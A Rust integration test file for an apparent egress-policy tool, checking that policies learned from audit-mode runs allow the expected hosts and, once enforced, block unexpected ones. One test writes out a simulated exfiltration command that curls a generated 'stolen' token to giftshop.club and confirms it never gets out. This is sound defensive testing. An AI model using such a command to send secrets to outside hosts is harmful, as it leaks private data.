//! `egress-agent learn` and `diff`: from runs in audit mode to a policy that holds.

use std::{
    fs,
    path::{Path, PathBuf},
    process::Output,
};

use anyhow::{Context as _, Result, ensure};
use egress_tests::{token, world::World};
use serde_json::Value;

const STARTING: &str = "# mine\nversion: 1\nconnector: test\nmode: audit # for now\nallow: []\n";

/// Runs a line of shell under a policy; answers what it printed and where its events are.
fn run(world: &World, policy: &Path, line: &str) -> Result<(Output, PathBuf)> {
    let words = ["/bin/sh", "-c", line];
    let (mut command, events) = world.agent("").command(policy, &words)?;
    Ok((command.output()?, events))
}

fn agent(world: &World, words: &[&str]) -> Result<Output> {
    world.agent_command(words)?.output().context("the agent")
}

fn json(output: &Output) -> Result<Value> {
    let text = String::from_utf8_lossy(&output.stdout);
    let begin = text.find('{').with_context(|| format!("{output:?}"))?;
    serde_json::from_str(text.get(begin..).unwrap_or_default())
        .with_context(|| format!("{output:?}"))
}

fn hosts(list: &Value) -> Vec<&str> {
    let rules = list.as_array().into_iter().flatten();
    rules.filter_map(|rule| rule["host"].as_str()).collect()
}

#[test]
fn three_runs_make_a_policy_that_holds() -> Result<()> {
    let world = World::new()?;
    let policy = world.path("test.yaml");
    fs::write(&policy, STARTING)?;
    let work = "curl -sS https://allowed.example/; curl -sS http://other.example:8080/; \
                curl -sS https://o1.ingest.sentry.io/; true";
    let mut words = vec!["learn".to_owned(), "test".to_owned()];
    let mut events = Vec::new();
    for at in 0..3 {
        let line = match at {
            1 => format!("{work}; curl -sS https://giftshop.club/"),
            _ => work.to_owned(),
        };
        let (output, file) = run(&world, &policy, &line)?;
        ensure!(
            output.status.success(),
            "an audit run refused something: {output:?}"
        );
        words.extend(["--events".to_owned(), file.display().to_string()]);
        events.push(file);
    }
    words.extend(["--policy".to_owned(), policy.display().to_string()]);
    let words: Vec<&str> = words.iter().map(String::as_str).collect();

    let shown = agent(&world, &[&words[..], &["-o", "json"]].concat())?;
    ensure!(shown.status.code() == Some(1), "{shown:?}");
    let report = json(&shown)?;
    let mut rules = hosts(&report["rules"]);
    rules.sort_unstable();
    ensure!(rules == ["allowed.example", "other.example"], "{report}");
    ensure!(
        hosts(&report["apart"]) == ["giftshop.club", "o1.ingest.sentry.io"],
        "{report}"
    );
    ensure!(
        report["runs"] == 3 && report["rules"][0]["seen"]["runs"] == 3,
        "{report}"
    );
    ensure!(
        report["rules"][0]["seen"]["programs"]["curl"].is_u64(),
        "{report}"
    );
    ensure!(
        fs::read_to_string(&policy)? == STARTING,
        "written without --apply"
    );

    let applied = agent(&world, &[&words[..], &["--apply"]].concat())?;
    ensure!(applied.status.success(), "{applied:?}");
    let text = fs::read_to_string(&policy)?;
    ensure!(
        text.starts_with("# mine\nversion: 1\nconnector: test\nmode: audit # for now\n"),
        "{text}"
    );
    let again = agent(&world, &words)?;
    ensure!(
        again.status.success(),
        "there is still something to add: {again:?}"
    );

    // Enforced: the work is done, and what was added to it is refused and shows.
    let enforced = world.path("test.yaml");
    fs::write(&enforced, text.replace("mode: audit", "mode: enforce"))?;
    let (usual, quiet) = run(
        &world,
        &enforced,
        "curl -fsS https://allowed.example/ && curl -fsS http://other.example:8080/",
    )?;
    ensure!(
        usual.status.success(),
        "the work is not done any more: {usual:?}"
    );
    let stolen = token::new();
    let (_, loud) = run(
        &world,
        &enforced,
        &format!("{work}; curl -sS http://giftshop.club/{stolen}; true"),
    )?;
    world.fence()?;
    ensure!(world.sightings(&stolen)?.is_empty(), "it got out");

    let diff = |events: &Path, more: &[&str]| -> Result<(Option<i32>, Value)> {
        let [enforced, events] = [enforced.display().to_string(), events.display().to_string()];
        let words = [
            "diff", "test", "--policy", &enforced, "--events", &events, "-o", "json",
        ];
        let output = agent(&world, &[&words[..], more].concat())?;
        Ok((output.status.code(), json(&output)?))
    };
    let (code, report) = diff(&quiet, &[])?;
    ensure!(code == Some(0), "{report}");
    ensure!(
        report["unused"].as_array().is_some_and(Vec::is_empty),
        "{report}"
    );
    let (code, report) = diff(&loud, &[])?;
    ensure!(code == Some(1), "{report}");
    let asked = report["asked"].to_string();
    ensure!(asked.contains("giftshop.club"), "{report}");
    let (code, report) = diff(&loud, &["--before", &quiet.display().to_string()])?;
    ensure!(
        code == Some(1) && report["new"].to_string().contains("giftshop.club"),
        "{report}"
    );
    Ok(())
}

#[test]
fn a_command_is_run_once_from_nothing() -> Result<()> {
    let world = World::new()?;
    let line = "curl -fsS https://allowed.example/ >/dev/null";
    let folder = world.path("policies");
    let folder = folder.display().to_string();
    let learn = |more: &[&str]| {
        let words = ["learn", "once", "--user", "65534", "--policies", &folder];
        let command = ["-o", "json", "--", "/bin/sh", "-c", line];
        agent(&world, &[&words[..], more, &command[..]].concat())
    };
    let shown = learn(&[])?;
    ensure!(shown.status.code() == Some(1), "{shown:?}");
    let report = json(&shown)?;
    ensure!(hosts(&report["rules"]) == ["allowed.example"], "{report}");
    ensure!(!Path::new(&folder).exists(), "something was written");

    let applied = learn(&["--apply"])?;
    ensure!(applied.status.success(), "{applied:?}");
    let policy = Path::new(&folder).join("once.yaml");
    let text = fs::read_to_string(&policy)?;
    ensure!(
        text.starts_with("version: 1\nconnector: once\nallow:\n"),
        "{text}"
    );
    let (output, _) = run(&world, &policy, line)?;
    ensure!(
        output.status.success(),
        "the learned policy does not hold: {output:?}"
    );
    // A policy that is there is never put over.
    let again = learn(&["--apply"])?;
    ensure!(again.status.code() == Some(125), "{again:?}");
    ensure!(fs::read_to_string(&policy)? == text);
    Ok(())
}

#[test]
fn the_exit_status_says_what_there_is() -> Result<()> {
    let world = World::new()?;
    let empty = world.path("empty.jsonl");
    fs::write(&empty, "no line\n")?;
    let empty = empty.display().to_string();
    for (words, code) in [
        (&["learn"][..], 2),
        (&["learn", "a", "--events", &empty], 2),
        (&["learn", "a", "--events", "/nonexistent"], 125),
        (&["diff", "a", "--events", &empty], 2),
        (&["diff", "a", "--before", &empty], 2),
    ] {
        let output = agent(&world, words)?;
        ensure!(output.status.code() == Some(code), "{words:?}: {output:?}");
    }
    Ok(())
}
